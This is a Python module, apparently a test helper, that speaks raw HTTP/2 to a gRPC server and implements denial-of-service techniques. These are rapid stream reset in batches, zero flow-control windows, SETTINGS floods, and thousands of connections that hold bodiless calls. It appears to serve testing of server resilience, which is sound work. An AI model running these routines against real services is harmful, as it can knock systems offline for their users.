"""A raw HTTP/2 connection, frame by frame: what an attacker sends that no gRPC client would.

Streams opened and reset at once (rapid reset), a zero flow-control window (answers never read), SETTINGS by the
thousand, thousands of connections each with a call whose body never comes. Headers are HPACK literals without
indexing; a reader thread acknowledges the server's SETTINGS and PINGs (as any client must, or the server gives up on
the connection) and notes a GOAWAY or the connection's end.
"""

from __future__ import annotations

import selectors
import socket
import struct
import threading
import time
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _integer(value: int) -> bytes:
    """HPACK's integer with a 7-bit prefix (the length of a literal, not Huffman-coded)."""
    if value < 127:
        return bytes([value])
    out, value = bytearray([127]), value - 127
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def header_block(headers: list[tuple[str, str]]) -> bytes:
    """Each header as a literal without indexing, new name: nothing the decoder has to remember."""
    block = bytearray()
    for name, value in headers:
        block += b"\x00" + _integer(len(name)) + name.encode() + _integer(len(value)) + value.encode()
    return bytes(block)


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


class RawConnection:
    """One TCP connection speaking HTTP/2 to `host:port`; `settings` go in the client's first SETTINGS frame."""

    def __init__(
        self,
        host: str,
        port: int,
        settings: dict[int, int] | None = None,
        timeout: float = 10.0,
        read: bool = True,
        source: str = "",
    ) -> None:
        """`read` False: no reader thread of its own; something else calls `feed` with what arrives (`read_many`).

        `source`: the local address to connect from (another loopback address is another caller's).
        """
        self.authority = f"{host}:{port}"
        self.sock = socket.create_connection(
            (host, port), timeout=timeout, source_address=(source, 0) if source else None
        )
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.goaway: int | None = None  # the error code of the server's GOAWAY, if it sent one
        self.closed = threading.Event()  # the server ended the connection (or it broke)
        self.next_stream = 1
        self.opened: dict[int, float] = {}  # stream -> when its headers went out
        self.ended: dict[int, float] = {}  # stream -> when the server ended it (trailers, or RST_STREAM)
        self.closed_at = 0.0  # when the server ended the connection (0: it did not)
        self._closing = False
        self._lock = threading.Lock()
        payload = b"".join(struct.pack(">HI", key, value) for key, value in (settings or {}).items())
        self._buffer = b""
        self.send(PREFACE + frame(SETTINGS, 0, 0, payload))
        self._reader: threading.Thread | None = None
        if read:
            self._reader = threading.Thread(target=self._read, daemon=True)
            self._reader.start()

    def send(self, data: bytes) -> bool:
        """Whether the bytes went out (False once the connection is gone)."""
        try:
            with self._lock:
                self.sock.sendall(data)
            return True
        except OSError:
            self.ended_by_server()
            return False

    def headers(self, path: str, end_stream: bool = False, metadata: tuple[tuple[str, str], ...] = ()) -> bytes:
        """A HEADERS frame opening the next stream for a gRPC call of `path`."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.opened[stream] = time.monotonic()
        block = header_block(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", self.authority),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *metadata,
            ]
        )
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)

    def call(self, path: str, message: bytes, metadata: tuple[tuple[str, str], ...] = ()) -> int:
        """A whole unary call (headers, then the message ending the stream); its stream id."""
        opening = self.headers(path, metadata=metadata)
        stream = self.next_stream - 2
        self.send(opening + frame(DATA, END_STREAM, stream, grpc_message(message)))
        return stream

    def reset_calls(self, path: str, count: int, metadata: tuple[tuple[str, str], ...] = ()) -> int:
        """`count` calls opened and reset at once, in batches; how many went out before the connection ended."""
        sent = 0
        while sent < count and not self.closed.is_set():
            batch = bytearray()
            for _ in range(min(100, count - sent)):
                batch += self.headers(path, metadata=metadata)
                batch += frame(RST_STREAM, 0, self.next_stream - 2, struct.pack(">I", CANCEL))
            if not self.send(bytes(batch)):
                break
            sent += min(100, count - sent)
        return sent

    def _read(self) -> None:
        with suppress(OSError):
            while chunk := self.sock.recv(1 << 16):
                self.feed(chunk)
        self.ended_by_server()

    def feed(self, chunk: bytes) -> None:
        """Frames received: the server's SETTINGS and PINGs acknowledged, streams' ends and a GOAWAY noted."""
        buffer = self._buffer + chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
            stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            buffer = buffer[9 + length :]
            if (kind == HEADERS and flags & END_STREAM) or kind == RST_STREAM:
                self.ended.setdefault(stream, time.monotonic())
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY and len(payload) >= 8:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
        self._buffer = buffer

    def ended_by_server(self) -> None:
        """The connection ended, by the server unless the attacker was closing it."""
        if not self._closing and not self.closed.is_set():
            self.closed_at = time.monotonic()
        self.closed.set()

    def close(self) -> None:
        self._closing = True
        with suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        if self._reader is not None:
            self._reader.join(5)


def read_many(connections: list[RawConnection], seconds: float) -> None:
    """Read every connection for `seconds` from this one thread (thousands of connections, no thread each)."""
    selector = selectors.DefaultSelector()
    for connection in connections:
        connection.sock.setblocking(False)
        selector.register(connection.sock, selectors.EVENT_READ, connection)
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0:
        for key, _ in selector.select(min(left, 0.1)):
            connection = key.data
            try:
                chunk = connection.sock.recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                chunk = b""
            if chunk:
                connection.feed(chunk)
            else:
                selector.unregister(connection.sock)
                connection.ended_by_server()
    selector.close()
